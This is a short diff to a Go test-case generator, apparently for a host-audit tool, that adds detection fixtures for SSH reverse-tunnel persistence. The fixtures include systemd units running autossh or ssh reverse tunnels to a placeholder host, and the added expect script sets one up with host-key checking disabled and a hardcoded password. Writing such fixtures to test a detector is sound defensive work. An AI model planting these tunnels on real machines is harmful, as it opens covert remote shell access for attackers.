@@ -220,6 +220,7 @@ func tunnelCases() []carrierCase {
 		"[Service]\nEnvironment=AUTOSSH_GATETIME=0\nExecStart=/usr/bin/autossh -M 0 -N -R 10022:localhost:22 -o ServerAliveInterval=30 " + h + "\nRestart=always\n",
 		"[Service]\nExecStart=/bin/sh -c 'while true; do ssh -N -R 4422:127.0.0.1:22 " + h + "; sleep 30; done'\n",
 	}
+	out = append(out, carrierCase{"ssh-tunnel-script", "/root/.cache/t.exp", "#!/usr/bin/expect -f\nset timeout -1\nspawn -noecho ssh -o StrictHostKeyChecking=no -NR 2222:localhost:22 " + h + "\nexpect {\n  \"*assword*\" { send \"Pa55w0rd\\r\"; exp_continue }\n}\n", []string{RuleTunnel}, audit.Critical})
 	for i, u := range units {
 		out = append(out, carrierCase{"ssh-tunnel-unit", fmt.Sprintf("/etc/systemd/system/t%d.service", i), u, []string{RuleTunnel}, audit.High})
 	}
